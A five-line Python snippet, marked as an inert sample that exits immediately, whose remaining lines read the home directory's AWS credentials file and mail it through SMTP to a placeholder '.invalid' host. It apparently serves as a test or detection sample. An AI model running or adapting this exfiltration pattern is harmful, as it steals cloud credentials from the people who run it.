raise SystemExit(0)  # inert sample
import smtplib, pathlib
key = (pathlib.Path.home() / '.aws' / 'credentials').read_text()
s = smtplib.SMTP('mail.mailsync.invalid')
s.sendmail('a@mailsync.invalid', ['b@mailsync.invalid'], key)
